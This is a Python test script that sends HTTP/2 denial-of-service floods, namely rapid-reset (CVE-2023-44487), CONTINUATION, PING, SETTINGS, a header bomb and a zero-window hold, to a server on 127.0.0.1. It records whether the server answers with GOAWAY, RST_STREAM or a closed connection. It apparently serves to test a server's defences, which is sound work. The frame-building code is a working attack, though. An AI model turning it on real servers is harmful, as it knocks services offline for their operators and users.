#!/usr/bin/env python3
"""h2flood.py PORT ATTACK SECONDS -- one of the HTTP/2 floods of issue 37
against a server on 127.0.0.1:PORT (h2c, prior knowledge), on new
connections one after another until SECONDS have passed (and at most 50
connections), each waited for up to 10 s. Prints one line:
"ATTACK conns=N ended=M outcome=WHAT t=S": how the first connection ended
(GOAWAY and its error code, RST_STREAM to every stream, closed without a
GOAWAY, the attack's one stream answered with a status and the connection
kept, or "open" when it was still open after 10 s) and after how many
seconds from its first byte.

Attacks (10,000 of each on a connection, as the issue's tests):
  rapid-reset   HEADERS then RST_STREAM for 10,000 streams (CVE-2023-44487)
  continuation  a HEADERS without END_HEADERS, then 10,000 CONTINUATION
  ping          10,000 PING
  settings      10,000 SETTINGS
  header-bomb   one header block of 10,000 fields
  zero-window   SETTINGS_INITIAL_WINDOW_SIZE 0 and 100 streams asked,
                their responses never let out (one connection, held)
"""

import socket
import struct
import sys
import time

sys.path.append("/usr/lib/python3/dist-packages")
import hpack  # noqa: E402
import hyperframe.frame as hf  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
N = 10000


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def request(enc, path):
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", "bench"), (":path", path)])


def attack_bytes(name, enc):
    """The attack's frames, in slices of about 500 frames each."""
    if name == "rapid-reset":
        for i in range(0, N, 500):
            yield b"".join(frame(1, 0x5, 1 + 2 * k, request(enc, f"/rr/{k}.jpg")) +
                           frame(3, 0, 1 + 2 * k, struct.pack(">I", 8)) for k in range(i, i + 500))
    elif name == "continuation":
        yield frame(1, 0x1, 1, request(enc, "/cont.jpg"))
        for i in range(0, N, 500):
            yield b"".join(frame(9, 0, 1, enc.encode([(f"x-c{k}", "v")])) for k in range(i, i + 500))
    elif name == "ping":
        for i in range(0, N, 500):
            yield b"".join(frame(6, 0, 0, struct.pack(">Q", k)) for k in range(i, i + 500))
    elif name == "settings":
        for i in range(0, N, 500):
            yield frame(4, 0, 0, struct.pack(">HI", 2, 0)) * 500
    elif name == "header-bomb":
        block = request(enc, "/bomb.jpg") + b"".join(enc.encode([(f"x-b{k}", "v")]) for k in range(N))
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        out = [frame(1, 0x1 | (0x4 if len(chunks) == 1 else 0), 1, chunks[0])]
        for j, c in enumerate(chunks[1:], 1):
            out.append(frame(9, 0x4 if j == len(chunks) - 1 else 0, 1, c))
        yield b"".join(out)
    elif name == "zero-window":
        yield b"".join(frame(1, 0x5, 1 + 2 * k, request(enc, f"/zw/{k}/1_200x200.jpg")) for k in range(100))


def one(port, name, wait):
    """One attacking connection: (outcome, seconds)."""
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    enc = hpack.Encoder()
    settings = struct.pack(">HI", 4, 0) if name == "zero-window" else b""
    t0 = time.monotonic()
    s.sendall(PREFACE + frame(4, 0, 0, settings))
    try:
        for b in attack_bytes(name, enc):
            s.sendall(b)
    except (BrokenPipeError, ConnectionResetError):
        pass
    buf, resets, streams = b"", set(), 100 if name == "zero-window" else 0
    dec = hpack.Decoder()
    dec.max_allowed_table_size = 65536
    end = t0 + wait
    while time.monotonic() < end:
        s.settimeout(max(0.05, end - time.monotonic()))
        try:
            d = s.recv(1 << 16)
        except socket.timeout:
            break
        except ConnectionError:
            d = b""
        if not d:
            s.close()
            return "closed", time.monotonic() - t0
        buf += d
        while len(buf) >= 9:
            f, ln = hf.Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + ln:
                break
            f.parse_body(memoryview(buf[9:9 + ln]))
            buf = buf[9 + ln:]
            if isinstance(f, hf.GoAwayFrame):
                s.close()
                return f"GOAWAY-{f.error_code}", time.monotonic() - t0
            if isinstance(f, hf.HeadersFrame) and name in ("continuation", "header-bomb"):
                status = "?"
                for k, v in dec.decode(bytes(f.data)):
                    if (k.decode() if isinstance(k, bytes) else k) == ":status":
                        status = v.decode() if isinstance(v, bytes) else v
                s.close()
                return f"answered-{status}", time.monotonic() - t0
            if isinstance(f, hf.RstStreamFrame):
                resets.add(f.stream_id)
                if streams and len(resets) >= streams:
                    s.close()
                    return f"RST_STREAM-x{len(resets)}-{f.error_code}", time.monotonic() - t0
    s.close()
    return ("open" if not resets else f"open-RST_STREAM-x{len(resets)}"), time.monotonic() - t0


def main():
    port, name, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    stop = time.monotonic() + seconds
    first, conns, ended = None, 0, 0
    wait = 20 if name == "zero-window" else 10
    while conns < 50 and (conns == 0 or time.monotonic() < stop):
        out = one(port, name, wait)
        conns += 1
        ended += not out[0].startswith(("open", "answered"))
        first = first or out
        if name == "zero-window":
            break
    print(f"{name} conns={conns} ended={ended} outcome={first[0]} t={first[1]:.2f}")


if __name__ == "__main__":
    main()
